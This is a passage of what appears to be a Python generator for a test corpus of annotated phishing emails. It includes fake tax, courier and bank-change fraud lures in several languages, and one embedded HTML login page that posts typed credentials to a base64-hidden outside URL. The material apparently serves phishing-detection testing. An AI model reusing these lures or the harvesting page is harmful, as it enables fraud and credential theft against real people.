Following our capex approval last week, we are going out to tender for four new tray sealing lines for the Grimsby ready-meals site (MAP, 2-up and 3-up formats, target 120 packs/min per line). You're one of three suppliers invited.

The tender pack – layout drawings, the User Requirement Specification and our commercial terms – is in our project folder:

https://northfieldfoods-my.sharepoint.com/:f:/g/personal/r_thornton_northfieldfoods_co_uk/EhT7m2Qk9yFJpVr0a3xL1cYB4nKq8w2zJ6dWvR5uHs0fTg?e=4yQm2P

The link is restricted to invited suppliers, so you'll need to verify with your work account when prompted. Could you confirm your intention to quote by Monday 16 March? Deadline for submissions is 3 April, with FAT planned for September.

Happy to set up a call with our engineering lead if useful.

Kind regards,

Rebecca Thornton
Senior Procurement Manager – Engineering & Capex
Northfield Foods Ltd | Humber Bridge Road | Grimsby DN31 3SY
T: +44 1472 355 810 | M: +44 7823 114 905''', html=True, mid_domain='CWXP123MB4417.GBRP123.PROD.OUTLOOK.COM')

    # ------------------------------------------------------------------ 14-en fake DHL duty
    url = 'https://dhl-importduty-uk.com/pay/?awb=4827730915&ref=EGUK'
    M(A, 14, 'en', 'Obvious courier smishing-style email: fake DHL import-duty payment (small amount) with card-harvesting link on a lookalike domain.',
      ('DHL Express UK', 'noreply@dhl-importduty-uk.com'), 'hughes',
      'Action required: import duty outstanding for shipment 4827730915', '2026-03-13 06:04:51 +0000',
      R_host('mail.dhl-importduty-uk.com', '45.88.97.201'),
      '''DHL Express

Your shipment 4827730915 from KUKA Deutschland GmbH is held at our East Midlands hub.

Import VAT and duty of GBP 38.62 must be paid before we can deliver your parcel. If payment is not received within 48 hours, the shipment will be returned to the sender.

Pay now: %s

Thank you for choosing DHL Express.
This is an automatically generated email, please do not reply.''' % url,
      html='''<html><body style="font-family:Arial;background:#fff"><div style="background:#ffcc00;padding:14px"><b style="color:#d40511;font-size:22px">DHL</b> <span style="color:#d40511">EXPRESS</span></div>
<p>Your shipment <b>4827730915</b> from KUKA Deutschland GmbH is held at our East Midlands hub.</p>
<p>Import VAT and duty of <b>GBP 38.62</b> must be paid before we can deliver your parcel. If payment is not received within 48 hours, the shipment will be returned to the sender.</p>
<p><a href="%s" style="background:#d40511;color:#fff;padding:10px 20px;text-decoration:none">Pay duty now</a></p>
<p style="font-size:11px;color:#777">This is an automatically generated email, please do not reply.</p></body></html>''' % url)

    # ------------------------------------------------------------------ 15-en interpack housing scam
    M(A, 15, 'en', 'Trade-fair housing scam: fake "official housing bureau" for interpack 2026 (real fair, real dates), asks exhibitor to pay a room-block deposit by bank transfer to a UK account or lose the rooms.',
      ('interpack 2026 Housing Bureau', 'rooms@interpack-housingbureau.com'), 'oezdemir',
      'interpack 2026 (7–13 May) – Example Group exhibitor room block: release on 20 March', '2026-03-04 10:26:08 +0100',
      R_host('mail.interpack-housingbureau.com', '162.252.83.57'),
      '''Dear Mr. Özdemir,

We are the official housing provider for exhibitors at interpack 2026, Düsseldorf, 7–13 May 2026.

Our records show that Example Group (Hall 5) has not yet confirmed its exhibitor room block. Hotel capacity in Düsseldorf and Neuss is almost fully booked for the fair period and rates are rising daily. We are currently holding the following for your company at the negotiated exhibitor rate:

- 8 single rooms, Hotel near Messe/Stockum, 6–12 May (6 nights), EUR 289 per night incl. breakfast
- Shuttle to the fairground included

To secure these rooms, a 30%% deposit (EUR 4,161.60) is required by 20 March 2026. Unconfirmed rooms will be released to the waiting list.

Bank transfer:
Beneficiary: Expo Housing Services Ltd
IBAN: %s
BIC: CLRBGB22
Reference: IP26-EG-H5

Alternatively reply with your rooming list and we will send a card payment link.

Best regards,
Laura Mitchell
Exhibitor Housing Team – interpack 2026
Expo Housing Services Ltd, London''' % fi(IBAN['mule_gb']), html=True)

    # ------------------------------------------------------------------ 16-it lookalike haulier, thread + PDF letter
    lett = pdf([(13, 'FERRETTI TRASPORTI S.r.l.'), 'Via dell\'Industria 48 - 42124 Reggio Emilia - P.IVA 01873420354', '',
                'Spett.le Example Group Italia S.r.l.', 'Alla c.a. Ufficio Amministrazione', '',
                'Reggio Emilia, 09/03/2026', '', (11, 'Oggetto: comunicazione variazione coordinate bancarie'), '',
                'Con la presente vi comunichiamo che, a far data dal 01/03/2026, tutti i pagamenti',
                'relativi alle nostre fatture dovranno essere effettuati esclusivamente sul seguente conto:', '',
                'Intestatario: Ferretti Trasporti S.r.l.', 'Banca: Banca Sella S.p.A.',
                'IBAN: %s' % fi(IBAN['mule_it']), '',
                'Il precedente conto presso Banco BPM e\' in fase di estinzione.', '',
                'Distinti saluti', 'Il Legale Rappresentante', 'Roberto Ferretti'], title='Variazione coordinate', author='amministrazione')
    hist = '''Da: Giulia Ferraro <g.ferraro@examplegroup.eu>
Inviato: venerdì 6 marzo 2026 12:18
A: Chiara Colombo <c.colombo@ferretti-trasporti.it>
Oggetto: R: Fatture trasporti febbraio

Ciao Chiara,
ho ricevuto le fatture da 2026/0412 a 2026/0419, tutto ok tranne la 0417 dove manca il riferimento alla nostra bolla (trasporto Parma–Modena del 19/02). Me la puoi riemettere?
Grazie, buona giornata
Giulia

Da: Chiara Colombo <c.colombo@ferretti-trasporti.it>
Inviato: giovedì 5 marzo 2026 17:02
A: Giulia Ferraro <g.ferraro@examplegroup.eu>
Oggetto: Fatture trasporti febbraio

Buonasera Giulia,
ti anticipo in pdf le fatture di febbraio, gli xml sono già passati dallo SDI.
Saluti, Chiara'''
    M(A, 16, 'it', 'Lookalike haulier domain (ferretti-trasporti.com instead of .it) replying inside a copied real thread about February invoices; signed-looking PDF letter announces new IBAN at another bank.',
      ('Chiara Colombo', 'c.colombo@ferretti-trasporti.com'), 'ferraro',
      'R: R: Fatture trasporti febbraio', '2026-03-09 10:44:37 +0100',
      R_host('smtp.ferretti-trasporti.com', '185.181.165.20'),
      '''Buongiorno Giulia,

scusa il ritardo, ti rigiro la 0417 corretta appena l'amministrazione me la riemette.

Approfitto per segnalarti una cosa importante: da questo mese abbiamo cambiato banca, in allegato trovi la lettera firmata da Roberto con le nuove coordinate. Ti chiedo per favore di aggiornare l'anagrafica prima del pagamento delle fatture di febbraio, perché il vecchio conto su Banco BPM è in chiusura e i bonifici tornerebbero indietro.

Totale fatture febbraio: € 14.386,40 (scadenza 31/03, ma se riuscite ad anticipare ci fate un favore, siamo in chiusura trimestre).

Grazie mille e buona settimana
Chiara

Chiara Colombo
Ufficio Traffico
Ferretti Trasporti S.r.l.
Tel. 0522 391 447

%s''' % hist, html=True, cte='8bit', html_cte='qp',
      atts=[attachment(lett, 'application/pdf', 'Comunicazione variazione IBAN.pdf')],
      in_reply_to='<%s@examplegroup.eu>' % hid('a16', n=20, alpha='0123456789abcdef'))

    # ------------------------------------------------------------------ 17-it fake Agenzia delle Entrate, malware link
    url = 'https://studiotecnicorossi-pd.it/wp-content/uploads/2026/03/AdE_Comunicazione_54bis_0318.zip'
    M(A, 17, 'it', 'Fake Agenzia delle Entrate "comunicazione di irregolarità" (art. 54-bis) with link to a ZIP on a compromised WordPress site (malware delivery, typical Italian campaign).',
      ('Agenzia delle Entrate', 'comunicazioni@agenziaentrate-avvisi.it'), 'ricci',
      'Comunicazione di irregolarità – art. 54-bis DPR 633/1972 – Prot. n. 2026/318774', '2026-03-11 08:19:02 +0100',
      R_host('mail.agenziaentrate-avvisi.it', '89.23.98.51'),
      '''AGENZIA DELLE ENTRATE
Direzione Provinciale di Parma – Ufficio Controlli

Spett.le EXAMPLE GROUP ITALIA S.R.L.

Oggetto: Comunicazione degli esiti del controllo automatizzato della dichiarazione IVA 2025 (periodo d'imposta 2024) – art. 54-bis del D.P.R. n. 633/1972.

Dal controllo della dichiarazione sono emerse irregolarità nei versamenti periodici. L'importo complessivamente dovuto, comprensivo di sanzioni e interessi, è indicato nel documento allegato alla presente comunicazione.

Per prendere visione della comunicazione e dei relativi prospetti di calcolo, scaricare il documento al seguente indirizzo:
%s

Qualora ritenga che la comunicazione non sia corretta, può fornire chiarimenti entro 60 giorni dal ricevimento tramite il servizio CIVIS.

Cordiali saluti
Il Capo Ufficio
Dott.ssa Maria Grazia Leone

Messaggio generato automaticamente, si prega di non rispondere.''' % url, html=True, cte='b64')

    # ------------------------------------------------------------------ 18-it fake SDI scarto -> SPID phishing
    url = 'https://fatturapa-sdi-notifiche.com/accesso/?fn=IT01873420354_0318&cf=02981540345'
    M(A, 18, 'it', 'Fake Sistema di Interscambio (SDI) rejection notice for an e-invoice; "accedi con SPID/CIE" link to credential-harvesting page on lookalike domain.',
      ('Sistema di Interscambio – FatturaPA', 'sdi-notifiche@fatturapa-sdi-notifiche.com'), 'ferraro',
      'Notifica di scarto – Fattura n. 2026/FE/00318 – Codice errore 00404', '2026-03-06 16:52:13 +0100',
      R_host('vps-5a2c.fatturapa-sdi-notifiche.com', '146.19.207.14'),
      '''Notifica di scarto

Il file IT01873420354_0318.xml relativo alla fattura n. 2026/FE/00318 del 04/03/2026, importo € 7.920,00, emessa da FERRETTI TRASPORTI S.R.L. nei confronti di EXAMPLE GROUP ITALIA S.R.L., è stato scartato dal Sistema di Interscambio.

Codice errore: 00404 – Fattura duplicata / Identificativo non coerente

Per evitare la sospensione della detrazione IVA, il destinatario deve confermare la ricezione del documento entro 5 giorni accedendo al servizio "Fatture e Corrispettivi":
%s

L'accesso è consentito tramite SPID, CIE o CNS.

Agenzia delle Entrate – Sistema di Interscambio
Questa è una e-mail generata automaticamente, non rispondere.''' % url, html=True)

    # ------------------------------------------------------------------ 19-it CEO fraud, WhatsApp pretext
    M(A, 19, 'it', 'CEO fraud opener: CEO display name on lookalike domain examplegroup-eu.com writes to the Italian country manager in Italian, asks for his WhatsApp number for a "riservata" matter (no link, no payload).',
      ('Matthias Brenner', 'm.brenner@examplegroup-eu.com'), 'ricci',
      'Riservato', '2026-03-12 09:03:58 +0100',
      R_host('mail.examplegroup-eu.com', '91.215.85.41'),
      '''Buongiorno Alessandro,

sei in ufficio oggi? Ho bisogno del tuo aiuto per una questione riservata che riguarda un'operazione in Italia, di cui per il momento è informato solo il board.

Mandami per favore il tuo numero WhatsApp aggiornato, ti contatto lì perché oggi sono in riunione tutto il giorno e non posso telefonare.

Ti chiedo la massima discrezione, non parlarne con nessuno in ufficio.

Grazie
Matthias Brenner
CEO – Example Group

Inviato da Outlook per iOS''', cte='8bit')

    # ------------------------------------------------------------------ 20-it quishing (QR inline PNG)
    qurl = 'https://mfa-examplegroup.com/eu/?u=bS5lc3Bvc2l0b0BleGFtcGxlZ3JvdXAuZXU='
    png = qr_png(qurl)
    htm = '''<html><head><meta charset="utf-8"></head><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">
<table width="600" cellpadding="0" cellspacing="0" style="border:1px solid #ddd"><tr><td style="background:#0067b8;color:#fff;padding:14px 20px;font-size:17px">Microsoft 365 &middot; Example Group</td></tr>
<tr><td style="padding:20px">
<p>Gentile Marco Esposito,</p>
<p>per conformità alla nuova policy di sicurezza aziendale (NIS2), tutti gli account devono <b>riconfigurare Microsoft Authenticator entro 48 ore</b>. In caso contrario l'accesso a Outlook, Teams e al portale assistenza verrà sospeso.</p>
<p>Scansiona il codice QR con la fotocamera del tuo smartphone e segui le istruzioni:</p>
<p style="text-align:center"><img src="cid:qr-mfa-0312" width="205" height="205" alt="QR"></p>
<p style="font-size:12px;color:#666">Il codice è personale e valido fino al 14/03/2026. Non inoltrare questo messaggio.</p>
<p>Servizi IT – Example Group</p></td></tr></table></body></html>'''
    M(A, 20, 'it', 'Quishing: MFA re-enrolment "NIS2" pretext; the only link is in an inline PNG QR code (encodes a personalised URL to an AiTM page), pushing the victim onto an unmanaged phone. Text part contains no URL.',
      ('Servizi IT Example Group', 'no-reply@examplegroup-mfa.com'), 'esposito',
      'Azione richiesta: riconfigurare Microsoft Authenticator entro 48 ore', '2026-03-12 07:45:10 +0100',
      R_host('mail.examplegroup-mfa.com', '5.181.86.122'),
      '''Gentile Marco Esposito,

per conformità alla nuova policy di sicurezza aziendale (NIS2), tutti gli account devono riconfigurare Microsoft Authenticator entro 48 ore. In caso contrario l'accesso a Outlook, Teams e al portale assistenza verrà sospeso.

Scansiona il codice QR contenuto in questo messaggio con la fotocamera del tuo smartphone e segui le istruzioni.

Servizi IT – Example Group''', html=htm,
      inline=[attachment(png, 'image/png', 'qr.png', inline=True, cid='qr-mfa-0312')])

    # ------------------------------------------------------------------ 21-pl compromised partner account, genuine Dropbox link
    M(A, 21, 'pl', 'Really compromised mailbox of the Polish logistics partner contact (sent via the partner\'s own hosting, login from abroad): short note with a genuine Dropbox link to a PDF that redirects to a credential page. Plain-text only, terse, like real logistics mail.',
      ('Tomasz Zieliński', 't.zielinski@partner-logistik.pl'), 'dabrowski',
      'Dokumenty CMR i faktury – luty 2026', '2026-03-06 14:28:41 +0100',
      R_host('s47.cyber-folks.pl', '195.78.66.147', client=('[192.168.88.10]', 'unknown', '104.28.61.209')),
      '''Dzień dobry Panie Łukaszu,

przesyłam link do kompletu dokumentów za luty (CMR-y z podpisami odbiorców + zestawienie faktur do uzgodnienia sald):

https://www.dropbox.com/scl/fi/q8x2mh1v7ktd0wz5n3r4a/Dokumenty_CMR_luty_2026.pdf?rlkey=7vq0m3ypj4xk9s2d1ahf6wzbt&dl=0

Prosimy o potwierdzenie salda do środy, bo księgowość zamyka kwartał wcześniej.

Pozdrawiam
Tomasz Zieliński
Spedytor / Dział Transportu Międzynarodowego
Partner-Logistik Sp. z o.o.
ul. Składowa 14, 62-023 Gądki
tel. +48 61 864 20 37''', cc='wojcik', cs='iso-8859-2', cte='qp', mid_domain='partner-logistik.pl',
      extra=[('User-Agent', 'Roundcube Webmail/1.6.9')])

    # ------------------------------------------------------------------ 22-pl lookalike, change of bank account, white list excuse
    M(A, 22, 'pl', 'Lookalike domain partner-logistlk.pl (i→l) from "księgowość": bank account change with a pre-emptive excuse for the account not yet being on the VAT white list (biała lista) and an appeal to split payment; ISO-8859-2 quoted-printable.',
      ('Partner-Logistik – Księgowość', 'ksiegowosc@partner-logistlk.pl'), 'wojcik',
      'Zmiana rachunku bankowego – Partner-Logistik Sp. z o.o.', '2026-03-10 11:07:33 +0100',
      R_host('mail.partner-logistlk.pl', '193.233.48.90'),
      '''Szanowni Państwo,

uprzejmie informujemy, że w związku ze zmianą banku obsługującego naszą spółkę, od dnia 10.03.2026 r. prosimy o regulowanie wszystkich należności na nowy rachunek bankowy:

Partner-Logistik Sp. z o.o.
Santander Bank Polska S.A.
%s

Dotychczasowy rachunek w mBanku zostanie zamknięty z dniem 31.03.2026 r. Płatności dokonane na stary rachunek po tym terminie zostaną zwrócone.

Nowy rachunek został zgłoszony do Urzędu Skarbowego na formularzu CPD i pojawi się w Wykazie podatników VAT (tzw. biała lista) w ciągu kilku dni roboczych. W tym okresie prosimy o dokonywanie płatności w mechanizmie podzielonej płatności (MPP) – zgodnie z art. 117ba Ordynacji podatkowej nie ponoszą Państwo wtedy żadnej odpowiedzialności solidarnej.

Do zapłaty pozostają faktury FV/02/2026/0187, FV/02/2026/0203 oraz FV/02/2026/0211 na łączną kwotę 38 412,60 zł.

Prosimy o potwierdzenie aktualizacji danych zwrotną wiadomością.

Z poważaniem
Dział Księgowości
Partner-Logistik Sp. z o.o.''' % fi(IBAN['mule_pl']), cs='iso-8859-2', cte='qp', html=True)

    # ------------------------------------------------------------------ 23-pl fake KSeF re-authorisation
    url = 'https://ksef-podatki.com.pl/uwierzytelnienie/?nip=8992841730&tok=Q2sW9xLm'
    M(A, 23, 'pl', 'Fake KSeF (Krajowy System e-Faktur, mandatory since February 2026) notice demanding re-authorisation of the company in "KSeF 2.0" before a deadline; link to lookalike portal asking for bank/login.gov.pl credentials.',
      ('Krajowy System e-Faktur', 'powiadomienia@ksef-podatki.com.pl'), 'wojcik',
      'KSeF: wymagane ponowne uwierzytelnienie podmiotu do 13.03.2026', '2026-03-09 07:30:55 +0100',
      R_host('mail.ksef-podatki.com.pl', '185.241.208.93'),
      '''Ministerstwo Finansów – Krajowy System e-Faktur

Szanowni Państwo,

w związku z wdrożeniem obowiązkowego KSeF oraz przejściem na wersję API 2.0 wszystkie podmioty muszą ponownie potwierdzić uprawnienia do wystawiania i odbierania faktur ustrukturyzowanych.

Podmiot: EXAMPLE GROUP POLSKA SP. Z O.O.
NIP: 899-284-17-30
Status: uprawnienia wygasają 13.03.2026

Brak potwierdzenia spowoduje zablokowanie odbioru faktur z KSeF, co uniemożliwi odliczenie podatku VAT naliczonego.

Potwierdź uprawnienia (Profil Zaufany / bankowość elektroniczna):
%s

Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.''' % url, html=True)

    # ------------------------------------------------------------------ 24-pl InPost fee
    url = 'https://inpost-doplata.pl-paczka24.top/p/?id=PL520113998472'
    M(A, 24, 'pl', 'Obvious parcel-fee scam: fake InPost "dopłata 1,99 zł" with card-phishing link on a .top domain.',
      ('InPost', 'powiadomienia@inpost-paczkomaty.info'), 'dabrowski',
      'Twoja paczka czeka – wymagana dopłata 1,99 zł', '2026-03-13 18:12:09 +0100',
      R_host('srv.inpost-paczkomaty.info', '80.76.51.3'),
      '''Dzień dobry,

Twoja przesyłka nr 520113998472 nie mogła zostać umieszczona w Paczkomacie z powodu niepełnego adresu. Aby ponownie nadać paczkę, prosimy o uregulowanie opłaty w wysokości 1,99 zł.

Zapłać teraz: %s

Brak płatności w ciągu 24 godzin spowoduje zwrot przesyłki do nadawcy.

Zespół InPost''' % url, html=True)

    # ------------------------------------------------------------------ 25-pl fake HR, HTML attachment
    page = '''<!DOCTYPE html><html lang="pl"><head><meta charset="utf-8"><title>Zaloguj się do konta</title>
<style>body{margin:0;font-family:"Segoe UI",Arial;background:#f2f2f2}.c{width:360px;margin:80px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:14px 0;font-size:15px}button{float:right;background:#0067b8;color:#fff;border:0;padding:8px 32px}</style></head>
<body><div class="c"><div style="font-size:13px;color:#555">Example Group &ndash; Dokumenty HR</div><h2 style="font-weight:600">Zaloguj się</h2>
<p style="font-size:13px">Aby otworzyć dokument „Regulamin_premiowy_2026.pdf”, potwierdź swoją tożsamość.</p>
<form id="f"><input id="e" type="email" value="a.wojcik@examplegroup.eu"><input id="p" type="password" placeholder="Hasło"><button type="submit">Zaloguj</button></form></div>
<script>
document.getElementById("f").onsubmit=function(ev){ev.preventDefault();
fetch(atob("aHR0cHM6Ly9ocmRvY3MtZXhhbXBsZWdyb3VwLmV1L2FwaS9jb2xsZWN0"),{method:"POST",mode:"no-cors",body:JSON.stringify({e:document.getElementById("e").value,p:document.getElementById("p").value})});
setTimeout(function(){location.href="https://www.office.com/"},800);};
</script></body></html>'''
    M(A, 25, 'pl', 'Fake internal HR mail (HR manager\'s display name on lookalike domain examplegroup-hr.eu): bonus regulations 2026 "to acknowledge"; HTML attachment is a local M365-style login page exfiltrating via fetch() to a base64-hidden URL.',
      ('Małgorzata Szymańska', 'kadry@examplegroup-hr.eu'), 'wojcik',
      'Regulamin wynagradzania i premiowania 2026 – prośba o potwierdzenie zapoznania się', '2026-03-04 08:02:17 +0100',
      R_host('mail.examplegroup-hr.eu', '176.97.210.34'),
      '''Dzień dobry,

w załączeniu przesyłam zaktualizowany Regulamin wynagradzania i premiowania obowiązujący od 1 kwietnia 2026 r. (zmiany dotyczą m.in. premii kwartalnej i dodatku za pracę zmianową).

Zgodnie z Kodeksem pracy prosimy każdego pracownika o zapoznanie się z dokumentem i potwierdzenie tego faktu w systemie do 11.03.2026 r. Brak potwierdzenia może opóźnić wypłatę premii za I kwartał.

Dokument otwiera się po zalogowaniu kontem firmowym.

Pozdrawiam serdecznie
Małgorzata Szymańska
Kadry i Płace
Example Group Polska Sp. z o.o. – Zakład Wrocław''',
      to_display='Pracownicy Zakład Wrocław <pracownicy-wroclaw@examplegroup.eu>',
      atts=[attachment(page.encode('utf-8'), 'text/html; charset="utf-8"', 'Regulamin_premiowy_2026.html')])

    # ------------------------------------------------------------------ 26-el fake AADE
    url = 'https://myaade-gov.com/taxisnet/ofeiles/?afm=800447312&s=eg'
    M(A, 26, 'el', 'Fake ΑΑΔΕ / myAADE notice of VAT debt and threatened account seizure; link to lookalike taxisnet login (ISO-8859-7, quoted-printable).',
      ('ΑΑΔΕ – myAADE', 'enimerosi@myaade-gov.com'), 'papadopoulos',
      'Ειδοποίηση: Ληξιπρόθεσμη οφειλή ΦΠΑ – Πρόθεση κατάσχεσης λογαριασμών', '2026-03-05 09:40:12 +0200',
      R_host('mail.myaade-gov.com', '45.141.215.88'),
      '''ΑΝΕΞΑΡΤΗΤΗ ΑΡΧΗ ΔΗΜΟΣΙΩΝ ΕΣΟΔΩΝ
Δ.Ο.Υ. ΦΑΕ Θεσσαλονίκης

Αξιότιμε/η φορολογούμενε,

Σας ενημερώνουμε ότι για τον ΑΦΜ 800447312 (EXAMPLE GROUP HELLAS ΜΟΝΟΠΡΟΣΩΠΗ Α.Ε.) έχει καταχωριστεί ληξιπρόθεσμη οφειλή ΦΠΑ περιόδου 12/2025 ύψους 6.842,17 €.

Σε περίπτωση μη εξόφλησης ή υποβολής αντιρρήσεων εντός 3 εργάσιμων ημερών, θα εκδοθεί κατασχετήριο στα χέρια τρίτων (τραπεζικοί λογαριασμοί) σύμφωνα με το άρθρο 31 του Κ.Ε.Δ.Ε.

Για να δείτε την ατομική ειδοποίηση και να διευθετήσετε την οφειλή, συνδεθείτε με τους κωδικούς Taxisnet:
%s

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων

Το μήνυμα αυτό δημιουργήθηκε αυτόματα. Παρακαλούμε μην απαντάτε.''' % url, cs='iso-8859-7', cte='qp', html=True)

    # ------------------------------------------------------------------ 27-el supplier lookalike, new IBAN (windows-1253, base64)
    lett = pdf([(13, 'ILEKTROMICHANIKI THESSALONIKIS A.E.'), '12o km Thessalonikis - Kalochoriou, 57009 Kalochori, AFM 094382117', '',
                'Pros: EXAMPLE GROUP HELLAS - Logistirio', 'Thessaloniki, 06/03/2026', '',
                (11, 'Thema: Allagi trapezikou logariasmou'), '',
                'Sas enimeronoume oti logo elegxou symmorfosis (KYC) tis trapezas mas, o logariasmos', 'stin Trapeza Peiraios den dechetai prosorina eiserchomena embasmata.',
                'Parakaloume oi pliromes na ginontai ston parakato logariasmo:', '',
                'Dikaiouchos: ILEKTROMICHANIKI THESSALONIKIS A.E.', 'Trapeza: Revolut Bank UAB',
                'IBAN: %s   BIC: REVOLT21' % fi(IBAN['mule_revolut']), '', 'Me ektimisi,', 'To Logistirio'], title='Allagi IBAN')
    M(A, 27, 'el', 'Invoice/payment diversion from lookalike of a Greek electrical supplier (ilektromihaniki.gr vs ilektromichaniki.gr); "KYC review freezes our Piraeus account" pretext, new account at a Lithuanian neobank; windows-1253 base64 body.',
      ('Ηλεκτρομηχανική Θεσσαλονίκης – Λογιστήριο', 'logistirio@ilektromihaniki.gr'), 'papadopoulos',
      'Αλλαγή τραπεζικού λογαριασμού – εκκρεμή τιμολόγια', '2026-03-06 12:15:48 +0200',
      R_host('mail.ilektromihaniki.gr', '91.92.243.17'),
      '''Καλησπέρα σας κ. Παπαδόπουλε,

σας ενημερώνουμε ότι λόγω ελέγχου συμμόρφωσης (KYC) από την τράπεζά μας, ο λογαριασμός μας στην Τράπεζα Πειραιώς δεν δέχεται προσωρινά εισερχόμενα εμβάσματα. Ο έλεγχος αναμένεται να ολοκληρωθεί εντός του Απριλίου.

Μέχρι τότε παρακαλούμε να εξοφλήσετε τα εκκρεμή τιμολόγια (ΤΔΑ 2026/0214, 2026/0231 και 2026/0236, σύνολο 9.375,20 €) στον νέο λογαριασμό που αναφέρεται στη συνημμένη επιστολή.

Παρακαλούμε επιβεβαιώστε μας με email την ενημέρωση των στοιχείων και την ημερομηνία πληρωμής, ώστε να προχωρήσουμε και την αποστολή των μοτέρ για την παραγγελία σας.

Με εκτίμηση,
Σοφία Καραγιάννη
Λογιστήριο
Ηλεκτρομηχανική Θεσσαλονίκης Α.Ε.
Τηλ. 2310 751 430''', cs='windows-1253', cte='b64',
      atts=[attachment(lett, 'application/pdf', 'Epistoli_allagi_IBAN.pdf')])

    # ------------------------------------------------------------------ 28-el internal impersonation, urgent guarantee payment
    M(A, 28, 'el', 'Impersonation of the Greek branch manager (display name, lookalike domain examplegroup-eu.gr) asking the accountant for an urgent transfer for a "tender guarantee fee" to a law firm; discourages phone verification.',
      ('Ελένη Κωνσταντίνου', 'e.konstantinou@examplegroup-eu.gr'), 'papadopoulos',
      'Επείγον – πληρωμή σήμερα για τον διαγωνισμό', '2026-03-11 10:22:40 +0200',
      R_host('mail.examplegroup-eu.gr', '194.169.175.40'),
      '''Γιώργο καλημέρα,

είμαι σε σύσκεψη με τον πελάτη για τον διαγωνισμό της γραμμής συσκευασίας και δεν μπορώ να μιλήσω στο τηλέφωνο.

Χρειάζομαι να γίνει σήμερα, πριν τις 14:00, ένα έμβασμα 18.600 € στο δικηγορικό γραφείο που χειρίζεται την εγγυητική συμμετοχής. Αν δεν πάει σήμερα η πληρωμή χάνουμε τη συμμετοχή.

Δικαιούχος: Αλεξίου & Συνεργάτες Δικηγορική Εταιρεία
IBAN: %s
Αιτιολογία: Εγγυητική συμμετοχής ΔΠ 04/2026

Τα παραστατικά θα σου τα στείλω το απόγευμα, έχει εγκριθεί ήδη από τη Γερμανία. Στείλε μου το αποδεικτικό μόλις γίνει.

Ευχαριστώ πολύ,
Ελένη

Στάλθηκε από το iPhone μου''' % fi(IBAN['mule_gr']), cte='8bit')

    # ------------------------------------------------------------------ 29-el fake ACS with HTML-table QR
    qurl = 'https://acs-paradosi.gr-track.info/p/?n=7204418395&c=1.45'
    htm = '''<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:14px">
<div style="background:#c8102e;color:#fff;padding:12px 18px;font-size:20px;font-weight:bold">ACS Courier</div>
<p>Αγαπητέ πελάτη,</p>
<p>Η αποστολή σας με αριθμό <b>7204418395</b> δεν μπόρεσε να παραδοθεί λόγω ελλιπών στοιχείων διεύθυνσης.</p>
<p>Για νέα προγραμματισμένη παράδοση απαιτείται επιβεβαίωση στοιχείων και καταβολή τέλους επαναποστολής <b>1,45 €</b>.</p>
<p>Σκανάρετε τον κωδικό με το κινητό σας:</p>
%s
<p style="font-size:12px;color:#666">Εάν δεν ολοκληρωθεί η διαδικασία εντός 48 ωρών, το δέμα θα επιστραφεί στον αποστολέα.</p>
<p>ACS Courier</p></body></html>''' % qr_table(qurl)
    M(A, 29, 'el', 'Courier scam (fake ACS redelivery fee 1,45 €) where the QR code is drawn as an HTML table of black/white cells, so no image and no clickable URL exist for scanners.',
      ('ACS Courier', 'info@acs-courier-gr.info'), 'konstantinou',
      'ACS: Η αποστολή σας 7204418395 βρίσκεται σε αναμονή', '2026-03-09 17:33:21 +0200',
      R_host('mail.acs-courier-gr.info', '185.246.220.19'),
      '''Αγαπητέ πελάτη,

Η αποστολή σας με αριθμό 7204418395 δεν μπόρεσε να παραδοθεί λόγω ελλιπών στοιχείων διεύθυνσης. Για νέα προγραμματισμένη παράδοση απαιτείται επιβεβαίωση στοιχείων και καταβολή τέλους επαναποστολής 1,45 €.

Σκανάρετε τον κωδικό QR στην έκδοση HTML του μηνύματος.

ACS Courier''', html=htm)

    # ------------------------------------------------------------------ 30-el calendar invite, performance review
    st = D('2026-03-17 12:00:00 +0200')
    link = 'https://examplegroup-sharepoint.com/sites/HR/Aksiologisi2026/Forms/review.aspx?u=e.konstantinou'
    descr = '''Αγαπητή κα Κωνσταντίνου,

στο πλαίσιο της ετήσιας αξιολόγησης απόδοσης 2026 έχει προγραμματιστεί η συνάντησή σας με το τμήμα HR του ομίλου.

Πριν από τη συνάντηση παρακαλούμε συμπληρώστε την αυτοαξιολόγηση και δείτε τη συνοπτική εισήγηση για την αναπροσαρμογή αποδοχών:
%s

Η φόρμα κλειδώνει 24 ώρες πριν τη συνάντηση.

Anja Schröder
Group HR''' % link
    cal = ics('EG-HR-%s' % hid('a30', n=16), 'Αξιολόγηση απόδοσης 2026 – Ελένη Κωνσταντίνου', st, st + _dt.timedelta(minutes=45),
              ('Anja Schröder', 'a.schroeder@examplegroup-hr.com'), [S['konstantinou']], descr, 'Microsoft Teams')
    M(A, 30, 'el', 'Calendar-invite phishing: "performance review 2026 / salary adjustment" invite from the group HR head\'s name on a lookalike domain; the .ics and body link to a fake SharePoint form (credential harvest). Greek text, ICS in UTF-8.',
      ('Anja Schröder', 'a.schroeder@examplegroup-hr.com'), 'konstantinou',
      'Πρόσκληση: Αξιολόγηση απόδοσης 2026 – Ελένη Κωνσταντίνου (Τρ 17/3, 12:00)', '2026-03-12 15:05:30 +0100',
      R_host('mail.examplegroup-hr.com', '176.97.210.39'), descr, html=True, calendar=cal,
      atts=[attachment(cal, 'text/calendar; charset="utf-8"; method=REQUEST', 'invite.ics')])

    # ------------------------------------------------------------------ 31-es fake AEAT, malware ZIP link
    url = 'https://bodegasmontealto.es/wp-includes/css/dist/Notificacion_AEAT_2026GRC4810237L.zip'
    M(A, 31, 'es', 'Fake Agencia Tributaria "requerimiento" with link to a ZIP on a hacked winery WordPress site (Latin-American banking-trojan style campaign).',
      ('Agencia Tributaria', 'notificaciones@agenciatributaria-sede.es'), 'fernandez',
      'Notificación AEAT: Requerimiento de información – Ref. 2026GRC4810237L', '2026-03-10 08:55:14 +0100',
      R_host('correo.agenciatributaria-sede.es', '193.42.33.174'),
      '''Agencia Tributaria
Sede electrónica

Estimado/a contribuyente:

Le comunicamos que se ha puesto a su disposición una notificación relativa al procedimiento de comprobación limitada del Impuesto sobre el Valor Añadido, ejercicio 2024, a nombre de EXAMPLE GROUP IBÉRICA S.L. (NIF B98765432).

Referencia: 2026GRC4810237L
